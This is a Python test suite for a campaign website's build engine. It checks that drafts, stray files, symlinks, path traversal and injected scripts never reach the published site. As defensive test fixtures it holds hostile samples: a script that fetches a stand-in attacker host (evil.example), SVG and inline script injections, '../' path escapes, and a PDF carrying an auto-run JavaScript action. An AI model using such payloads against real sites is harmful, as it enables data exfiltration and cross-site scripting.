"""Nothing reaches the site unless the engine knows it may (issue 11, SPEC 5.1).

Each way into the output that was open before the stage existed gets a hostile
file: a testimony that says `status: published` saved where the engine does not
read records, a draft's evidence, a script, a link out of content/. For each:
`campaign check` names the file, the build fails naming it, and no byte of it
is in the site or in the stage. The stage itself is checked as the last line: a
generator that ignores our plugin finds nothing unpublished in it, and a file
that appears in it behind the engine's back stops the build.
"""
from __future__ import annotations

import io
import os
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from PIL import Image

from campaign.content.collection import Published
from campaign.content.loader import load_content
from campaign.content.recordtypes import FOLDERS
from campaign.site import stage
from campaign.tools.cli import site_settings
from conftest import ROOT, copy_project, run_build

pytestmark = pytest.mark.build


def leak(name: str) -> str:
    return f"LEAKCANARY-{name}-Q7"


def published_story(name: str, extra: dict | None = None, body: str | None = None) -> str:
    """A complete, published-looking testimony: if anything read it as a record, it would be public."""
    meta = {"title": f"A story {leak(name)}", "summary": f"Summary {leak(name)}", "status": "published",
            "published": "2016-01-10", "city": "tbilisi", "incident_date": "2015-06", "violations": ["extortion"],
            "documented_by": "step-forward-tbilisi",
            "consent": {"reference": "C-9", "date": "2015-12-01", "scope": ["text", "city", "translation", "photos"]},
            "review": {"by": ["nino-k", "maria-c"], "date": "2016-01-05"}, **(extra or {})}
    return "---\n" + yaml.safe_dump(meta, allow_unicode=True, sort_keys=False) + "---\n" + (
        body if body is not None else f"She was stopped near the pharmacy. {leak(name)}\n")


def published_advocacy(folder: str, name: str, extra: dict) -> str:
    """A published ally, event, statement or document (issue 19) with what `extra` adds."""
    meta = {"title": f"A record {leak(name)}", "summary": f"Summary {leak(name)}", "status": "published",
            "published": "2016-01-10", "city": "tbilisi", "review": {"by": ["nino-k", "maria-c"], "date": "2016-01-05"},
            **extra}
    return "---\n" + yaml.safe_dump(meta, allow_unicode=True, sort_keys=False) + "---\n" + f"Text. {leak(name)}\n"


def jpeg(name: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (40, 30), (120, 40, 90)).save(out, "JPEG", comment=leak(name).encode())
    return out.getvalue()


# way in -> files (path under the project, bytes or text) and the path `check` must name
WAYS = {
    "another extension (.markdown)": ({"content/stories/night-draft.markdown": published_story("markdown")},
                                      "content/stories/night-draft.markdown"),
    "another extension (.txt)": ({"content/stories/night-draft.txt": published_story("txt")},
                                 "content/stories/night-draft.txt"),
    "backup copy (~)": ({"content/stories/night-draft.md~": published_story("tilde")},
                        "content/stories/night-draft.md~"),
    "backup copy (.bak)": ({"content/about.md.bak": published_story("bak")}, "content/about.md.bak"),
    "editor's swap file": ({"content/stories/.night-draft.md.swp": published_story("swap")},
                           "content/stories/.night-draft.md.swp"),
    "hidden file at the root": ({"content/.night-draft.md": published_story("hidden")}, "content/.night-draft.md"),
    "a folder of drafts": ({"content/drafts/night-draft.md": published_story("drafts")},
                           "content/drafts/night-draft.md"),
    "a subfolder of a record folder": ({"content/stories/old/night-draft.md": published_story("subfolder")},
                                       "content/stories/old/night-draft.md"),
    "the content root": ({"content/night-draft.md": published_story("root")}, "content/night-draft.md"),
    "a reserved name in a record folder": ({"content/stories/index.md": published_story("index")},
                                           "content/stories/index.md"),
    "a registry folder": ({"content/_data/notes.yml": f"notes: {leak('data')}\n"}, "content/_data/notes.yml"),
    "asset: a draft's evidence PDF": ({"content/assets/evidence.pdf": f"%PDF-1.4 {leak('pdf')}".encode()},
                                      "content/assets/evidence.pdf"),
    "asset: HTML with a script": ({"content/assets/page.html":
                                   f"<script>fetch('https://evil.example/{leak('html')}')</script>"},
                                  "content/assets/page.html"),
    "asset: SVG with a script": ({"content/assets/logo.svg":
                                  f"<svg xmlns='http://www.w3.org/2000/svg'><script>{leak('svg')}</script></svg>"},
                                 "content/assets/logo.svg"),
    "asset: an image nothing uses": ({"content/assets/unused.jpg": jpeg("unused")}, "content/assets/unused.jpg"),
    "asset: an image in another format": ({"content/assets/photo.webp": f"RIFF{leak('webp')}".encode()},
                                          "content/assets/photo.webp"),
    "symbolic link to a file": ({"outside/night-draft.md": published_story("linked-file"),
                                 "content/stories/night-linked.md": Path("../../outside/night-draft.md")},
                                "content/stories/night-linked.md"),
    "symbolic link to a folder": ({"outside/repo/HEAD": leak("linked-folder"),
                                   "outside/repo/draft.md": published_story("linked-folder-md"),
                                   "content/assets/repo": Path("../../outside/repo")}, "content/assets/repo"),
    "symbolic link to a record folder": ({"outside/more/night-draft.md": published_story("linked-records"),
                                          "content/more": Path("../outside/more")}, "content/more"),
    "absolute image path in a body": ({"outside/secret.jpg": jpeg("absolute"),
                                       "content/stories/absolute-path-tbilisi.md": published_story(
                                           "absolute-body", body="Text.\n\n![photo](/{outside}/secret.jpg)\n")},
                                      "content/stories/absolute-path-tbilisi.md:{line}: body"),
    "relative path leaving content/ in a body": ({"outside/secret2.jpg": jpeg("dotdot"),
                                                  "content/stories/dotdot-path-tbilisi.md": published_story(
                                                      "dotdot-body", body="Text.\n\n<img src=\"../../outside/secret2.jpg\" alt=\"x\">\n")},
                                                 "content/stories/dotdot-path-tbilisi.md:{line}: body"),
    "absolute path in images:": ({"outside/secret3.jpg": jpeg("images-absolute"),
                                  "content/stories/absolute-image-tbilisi.md": published_story(
                                      "images-absolute", {"images": [{"src": "/{outside}/secret3.jpg", "alt": "A photo"}]})},
                                 "content/stories/absolute-image-tbilisi.md:{line}: images.0.src"),
    "images: leaving content/assets/": ({"outside/secret4.jpg": jpeg("images-dotdot"),
                                         "content/stories/dotdot-image-tbilisi.md": published_story(
                                             "images-dotdot", {"images": [{"src": "../../outside/secret4.jpg", "alt": "A"}]})},
                                        "content/stories/dotdot-image-tbilisi.md:{line}: images.0.src"),
    "a script in a fixed page": ({"content/about.md": None}, "content/about.md:"),
    # the advocacy record (issue 19)
    "another extension in a new record folder": ({"content/allies/ally-draft.txt": published_story("ally-txt")},
                                                 "content/allies/ally-draft.txt"),
    "asset: a Word document": ({"content/assets/action-plan.docx": f"PK\x03\x04 {leak('docx')}".encode()},
                               "content/assets/action-plan.docx"),
    "asset: a video in another container": ({"content/assets/statement.webm": f"\x1aE\xdf\xa3 {leak('webm')}".encode()},
                                            "content/assets/statement.webm"),
    "asset: a language suffix the i18n plugin would move": (
        {"content/assets/plan.ru.pdf": f"%PDF-1.4 {leak('suffix')}".encode()}, "content/assets/plan.ru.pdf"),
    "files: leaving content/assets/": ({"outside/secret5.pdf": f"%PDF-1.4 {leak('files')}".encode(),
                                        "content/documents/dotdot-files-tbilisi.md": published_advocacy(
                                            "documents", "files", {"document_type": "report", "date": "2016-01-01",
                                                                   "files": [{"src": "../../outside/secret5.pdf", "lang": "en"}]})},
                                       "content/documents/dotdot-files-tbilisi.md:{line}: files.0.src"),
    "video: leaving content/assets/": ({"outside/secret6.mp4": f"....ftyp {leak('video')}".encode(),
                                        "content/statements/dotdot-video-tbilisi.md": published_advocacy(
                                            "statements", "video", {"speaker": "Spokesperson", "date": "2016-01-01",
                                                                    "video": {"src": "/{outside}/secret6.mp4", "poster": "p.png",
                                                                              "captions": [{"src": "c-en.vtt", "lang": "en"}]}})},
                                       "content/statements/dotdot-video-tbilisi.md:{line}: video.src"),
}
ABOUT_SCRIPT = f"\n<script>window.__pwned = '{leak('about')}'</script>\n"


def _put(root: Path, files: dict) -> None:
    for rel, data in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        if rel == "content/about.md":
            path.write_text(path.read_text("utf-8") + ABOUT_SCRIPT, "utf-8")
        elif isinstance(data, Path):
            path.symlink_to(data)
        elif isinstance(data, bytes):
            path.write_bytes(data)
        else:
            path.write_text(data.replace("{outside}", str(root / "outside").lstrip("/")), "utf-8")


def _canaries(folder: Path) -> list[str]:
    """Files under `folder` (links not followed) holding any canary's bytes."""
    found = []
    for dirpath, _dirs, names in os.walk(folder):
        for name in names:
            path = Path(dirpath) / name
            if not path.is_symlink() and b"LEAKCANARY" in path.read_bytes():
                found.append(str(path))
    return found


def _check(root: Path) -> subprocess.CompletedProcess:
    env = {**os.environ, "PYTHONPATH": str(ROOT / "plugins")}
    return subprocess.run([sys.executable, "-m", "campaign.tools.cli", "--config", str(root / "mkdocs.yml"), "check"],
                          capture_output=True, text=True, env=env, timeout=300)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """One copy of the project with every way in tried at once: check, build, and what was written."""
    root = copy_project(tmp_path_factory.mktemp("hostile"))
    for files, _ in WAYS.values():
        _put(root, files)
    check = _check(root)
    site = root / "site"
    build = run_build(root / "mkdocs.yml", site, cwd=root)
    return root, check, build, site


@pytest.mark.parametrize("way", list(WAYS))
def test_check_and_build_name_the_file_and_publish_no_byte_of_it(hostile, way):
    root, check, build, site = hostile
    named = WAYS[way][1]
    if "{line}" in named:  # the line of the offending address in the file
        lines = (root / named.split(":", 1)[0]).read_text("utf-8").splitlines()
        named = named.replace("{line}", str(next(i for i, text in enumerate(lines, 1) if "secret" in text)))
    assert check.returncode == 1
    assert named in check.stdout, f"campaign check does not name {named}:\n{check.stdout[-3000:]}"
    assert build.returncode != 0
    assert named in build.stdout + build.stderr
    assert not (site.exists() and _canaries(site))
    assert not _canaries(root / "stage"), "the stage holds a hostile file's bytes"


def test_the_stage_holds_only_what_may_be_published_even_when_the_check_is_ignored(hostile):
    """Defence in depth: the stage is planned from the published collection alone."""
    root = hostile[0]
    settings, content_dir = site_settings(root / "mkdocs.yml")
    content = load_content(content_dir, settings, project_root=root)
    assert content.problems.errors  # every way in above is an error...
    published = Published(content)
    planned = stage.plan(published, lambda lang: "withdrawn\n")  # ...yet the stage would hold none of them
    # the published records that point out of content/ are themselves publishable text (the
    # check refuses them for their addresses); the files they point at are in no planned file
    pointing = {named.split(":")[0].removeprefix("content/") for _, named in WAYS.values() if "{line}" in named}
    assert not [rel for rel, data in planned.items()
                if (b"LEAKCANARY" in data and rel not in pointing | {"about.md"}) or b"CANARY-DRAFT" in data]
    # the only assets are the sample's own published documents and video, none of the hostile files
    assert not [rel for rel, data in planned.items() if rel.startswith("assets/")
                and not rel.startswith(("assets/documents/", "assets/statements/"))]
    assert {rel.split("/")[0] for rel in planned} <= set(FOLDERS.values()) | {"assets"} | {
        page.rel for page in content.pages.values()}


def test_a_script_in_a_fixed_page_is_named_with_its_line(hostile):
    root, check, _, _ = hostile
    lines = (root / "content" / "about.md").read_text("utf-8").splitlines()
    line = next(i for i, text in enumerate(lines, 1) if text.startswith("<script>"))
    assert f"content/about.md:{line}: body: <script>: this HTML tag is not allowed" in check.stdout


def evidence_pdf(name: str) -> bytes:
    """A one-page PDF that names its author, runs a script when opened and carries an attachment."""
    import pikepdf

    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.docinfo["/Author"] = f"Author {leak(name)}"
    pdf.docinfo["/Producer"] = "OfficeSuite LEAKCANARY-producer-Q7"
    with pdf.open_metadata(set_pikepdf_as_editor=False) as meta:
        meta["dc:creator"] = [f"XMP {leak(name)}"]
    pdf.Root.OpenAction = pdf.make_indirect(pikepdf.Dictionary(
        S=pikepdf.Name.JavaScript, JS=pikepdf.String(f"app.alert('{leak(name)}')")))
    pdf.attachments["notes.txt"] = pikepdf.AttachedFileSpec(pdf, f"attached {leak(name)}".encode())
    out = io.BytesIO()
    pdf.save(out, compress_streams=False)
    return out.getvalue()


def solution(status: str, evidence_file: str) -> str:
    meta = {"title": "Evidence kept by the night lawyers", "summary": "What the lawyers recorded, as a report.",
            "status": status, "published": "2016-03-08", "city": "tbilisi", "solution_types": ["legal-aid"],
            "evidence": [{"title": "Annual report", "file": evidence_file, "kind": "report"}],
            "review": {"by": ["nino-k", "anna-p"], "date": "2016-03-01"}}
    return "---\n" + yaml.safe_dump(meta, sort_keys=False) + "---\nThe lawyers kept a record of every night call.\n"


@pytest.fixture(scope="module")
def clean_build(tmp_path_factory):
    root = copy_project(tmp_path_factory.mktemp("clean"))
    # a published solution's evidence is published, cleaned; a draft's is not published at all
    (root / "content" / "assets").mkdir(exist_ok=True)
    (root / "content" / "assets" / "night-report.pdf").write_bytes(evidence_pdf("published-pdf"))
    (root / "content" / "assets" / "draft-evidence.pdf").write_bytes(evidence_pdf("draft-pdf"))
    (root / "content" / "solutions" / "night-report-tbilisi.md").write_text(solution("published", "night-report.pdf"))
    (root / "content" / "solutions" / "draft-evidence-tbilisi.md").write_text(solution("draft", "draft-evidence.pdf"))
    site = root / "site"
    result = run_build(root / "mkdocs.yml", site, cwd=root)
    assert result.returncode == 0, result.stderr[-3000:]
    return root, site


def test_a_published_records_evidence_pdf_is_published_without_metadata_scripts_or_attachments(clean_build):
    from pypdf import PdfReader

    root, site = clean_build
    published = site / "assets" / "night-report.pdf"
    page = (site / "solutions" / "night-report-tbilisi" / "index.html").read_text("utf-8")
    assert 'href="../../assets/night-report.pdf"' in page
    data = published.read_bytes()
    assert b"LEAKCANARY" not in data
    reader = PdfReader(io.BytesIO(data))
    assert len(reader.pages) == 1
    assert not reader.metadata and reader.xmp_metadata is None
    assert "/OpenAction" not in reader.trailer["/Root"] and not reader.attachments
    # the draft's evidence is nowhere, in the site or the stage
    assert not list(site.rglob("draft-evidence*")) and not list((root / "stage").rglob("draft-evidence*"))
    assert not _canaries(site) and not _canaries(root / "stage")


def test_a_generator_that_ignores_our_plugin_finds_nothing_unpublished(clean_build, tmp_path):
    """What Zensical does with our mkdocs.yml: build docs_dir without the campaign plugin."""
    root, _ = clean_build
    config = yaml.safe_load((root / "mkdocs.yml").read_text("utf-8"))
    plain = {"site_name": "Plain", "docs_dir": str(root / config["docs_dir"]), "theme": {"name": "mkdocs"},
             "use_directory_urls": True}
    (tmp_path / "plain.yml").write_text(yaml.safe_dump(plain), "utf-8")
    site = tmp_path / "plain-site"
    result = run_build(tmp_path / "plain.yml", site, tmp_path, "--no-strict")
    assert result.returncode == 0, result.stderr[-2000:]
    text = "\n".join(p.read_text("utf-8", errors="replace") for p in site.rglob("*") if p.is_file())
    assert "CANARY-DRAFT" not in text  # the sample's drafts carry this mark
    drafts = [p for p in (ROOT / "content").rglob("*.md") if "status: draft" in p.read_text("utf-8")
              or "status: review" in p.read_text("utf-8")]
    assert drafts
    for path in drafts:
        assert not (root / "stage" / path.relative_to(ROOT / "content")).exists()


def test_staging_again_writes_nothing_and_removes_strays_without_following_links(clean_build, tmp_path):
    root, _ = clean_build
    planned = {rel: (root / "stage" / rel).read_bytes() for rel in stage.manifest(root / "stage")}
    before = {rel: (root / "stage" / rel).stat().st_mtime_ns for rel in planned}
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "keep.txt").write_text("must survive")
    (root / "stage" / "stray.md").write_text("stray")
    (root / "stage" / "linked").symlink_to(outside)
    assert stage.write(root / "stage", planned) == 0  # `mkdocs serve` sees no change: no rebuild loop
    assert {rel: (root / "stage" / rel).stat().st_mtime_ns for rel in planned} == before
    assert not (root / "stage" / "stray.md").exists() and not (root / "stage" / "linked").is_symlink()
    assert (outside / "keep.txt").read_text() == "must survive"


def test_the_stage_refuses_a_folder_it_did_not_write(tmp_path):
    (tmp_path / "docs").mkdir()
    (tmp_path / "docs" / "notes.md").write_text("someone's own page")
    with pytest.raises(stage.StageError, match="not empty"):
        stage.write(tmp_path / "docs", {"index.md": b"# Home"})
    assert (tmp_path / "docs" / "notes.md").exists()


def test_a_file_that_appears_in_the_stage_behind_the_engines_back_stops_the_build(tmp_path):
    root = copy_project(tmp_path / "project")
    (root / "hooks" / "sneak.py").write_text(
        "from pathlib import Path\n\n"
        "def on_pre_build(config):\n"
        "    (Path(config.docs_dir) / 'sneaked.md').write_text('# " + leak("sneak") + "')\n", "utf-8")
    config = (root / "mkdocs.yml").read_text("utf-8").replace("hooks:\n", "hooks:\n  - hooks/sneak.py\n")
    (root / "mkdocs.yml").write_text(config, "utf-8")
    site = tmp_path / "site"
    result = run_build(root / "mkdocs.yml", site, cwd=root)
    assert result.returncode != 0
    assert "sneaked.md" in result.stdout + result.stderr and "not in the stage" in result.stdout + result.stderr
    assert not (site.exists() and _canaries(site))


def test_docs_dir_may_not_be_the_content_folder(tmp_path):
    root = copy_project(tmp_path / "project")
    config = (root / "mkdocs.yml").read_text("utf-8").replace("docs_dir: stage", "docs_dir: content")
    (root / "mkdocs.yml").write_text(config, "utf-8")
    result = run_build(root / "mkdocs.yml", tmp_path / "site", cwd=root)
    assert result.returncode != 0 and "must be separate folders" in result.stdout + result.stderr
    assert (root / "content" / "about.md").exists()


INJECTED = 'window.__pwned = "inline"'


@pytest.mark.browser
def test_an_injected_inline_script_is_not_in_the_policy_and_does_not_run(tmp_path, browser):
    """A script that slips past the sanitiser (here a hook plays the bug) gets no hash: the
    policy comes from the theme's templates, and the browser refuses the script."""
    import base64
    import functools
    import hashlib
    import http.server
    import threading

    from conftest import QuietHandler

    root = copy_project(tmp_path / "project")
    (root / "hooks" / "inject.py").write_text(
        "from mkdocs.plugins import event_priority\n\n"
        "@event_priority(-1000)\n"
        "def on_page_content(html, page, config, files):\n"
        f"    return html + '<script>{INJECTED}</script>'\n", "utf-8")
    config = (root / "mkdocs.yml").read_text("utf-8").replace("hooks:\n", "hooks:\n  - hooks/inject.py\n")
    (root / "mkdocs.yml").write_text(config.replace("strict: true", "strict: false"), "utf-8")
    site = tmp_path / "site"
    env = {**os.environ, "NO_MKDOCS_2_WARNING": "1"}
    result = subprocess.run([sys.executable, "-m", "mkdocs", "build", "-f", str(root / "mkdocs.yml"), "-d", str(site)],
                            cwd=root, env=env, capture_output=True, text=True, timeout=600)
    assert result.returncode == 0, result.stderr[-3000:]
    # the build names the page (with strict, as in this site's mkdocs.yml, it fails)
    assert "about/index.html: an inline script that the theme's templates do not contain" in result.stderr
    page = (site / "about" / "index.html").read_text("utf-8")
    assert f"<script>{INJECTED}</script>" in page
    digest = base64.b64encode(hashlib.sha256(INJECTED.encode()).digest()).decode()
    policy = page.split('http-equiv="Content-Security-Policy" content="', 1)[1].split('"', 1)[0]
    assert digest not in policy and "unsafe-inline" not in policy.split("script-src", 1)[1].split(";", 1)[0]
    # every page carries the same policy: it depends on the templates, not on the page
    assert policy in (site / "stories" / "index.html").read_text("utf-8")

    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(QuietHandler, directory=str(site)))
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    context = browser.new_context()
    try:
        tab = context.new_page()
        messages = []
        tab.on("console", lambda msg: messages.append(msg.text))
        tab.goto(f"http://127.0.0.1:{httpd.server_address[1]}/about/")
        tab.wait_for_load_state("load")
        assert tab.evaluate("typeof window.__pwned") == "undefined"
        assert any("Content Security Policy" in m for m in messages), messages
        # the theme's own scripts still run under the policy (Material set up its helpers)
        assert tab.evaluate("typeof window.__md_get") == "function"
    finally:
        context.close()
        httpd.shutdown()


def test_a_file_written_into_the_site_behind_the_engines_back_stops_the_build(tmp_path):
    """The last line: after every language was built, the site folder is compared with what the
    builds approved (from the stage, the theme and the engine's own pages)."""
    root = copy_project(tmp_path / "project")
    (root / "hooks" / "drop.py").write_text(
        "from pathlib import Path\n\n"
        "def on_post_build(config):\n"
        "    (Path(config.site_dir) / 'drafts').mkdir(exist_ok=True)\n"
        "    (Path(config.site_dir) / 'drafts' / 'night.html').write_text('" + leak("dropped") + "')\n", "utf-8")
    config = (root / "mkdocs.yml").read_text("utf-8").replace("hooks:\n", "hooks:\n  - hooks/drop.py\n")
    (root / "mkdocs.yml").write_text(config, "utf-8")
    result = run_build(root / "mkdocs.yml", tmp_path / "site", cwd=root)
    assert result.returncode != 0
    assert "drafts/night.html" in result.stdout + result.stderr
    assert "no step of the build approved" in result.stdout + result.stderr


def test_a_page_the_engine_generates_cannot_come_from_content(tmp_path):
    root = copy_project(tmp_path / "project")
    (root / "content" / "map.md").write_text(f"# A map of my own {leak('map')}\n", "utf-8")
    result = run_build(root / "mkdocs.yml", tmp_path / "site", cwd=root)
    assert result.returncode != 0
    assert "content/map.md: the site makes this page itself" in result.stdout + result.stderr


def test_a_file_type_that_cannot_be_cleaned_is_refused_with_how_to_convert_it(hostile):
    _, check, _, _ = hostile
    lines = check.stdout.splitlines()
    docx = lines.index(next(line for line in lines if line.startswith("content/assets/action-plan.docx:")))
    assert "a .docx file cannot be cleaned" in lines[docx]
    assert "save it as PDF" in lines[docx + 1] and "Export as PDF" in lines[docx + 1]
    webm = lines.index(next(line for line in lines if line.startswith("content/assets/statement.webm:")))
    assert "convert it to MP4" in lines[webm + 1]
    suffix = next(i for i, line in enumerate(lines) if line.startswith("content/assets/plan.ru.pdf:"))
    assert "rename it to plan-ru.pdf" in lines[suffix + 1]
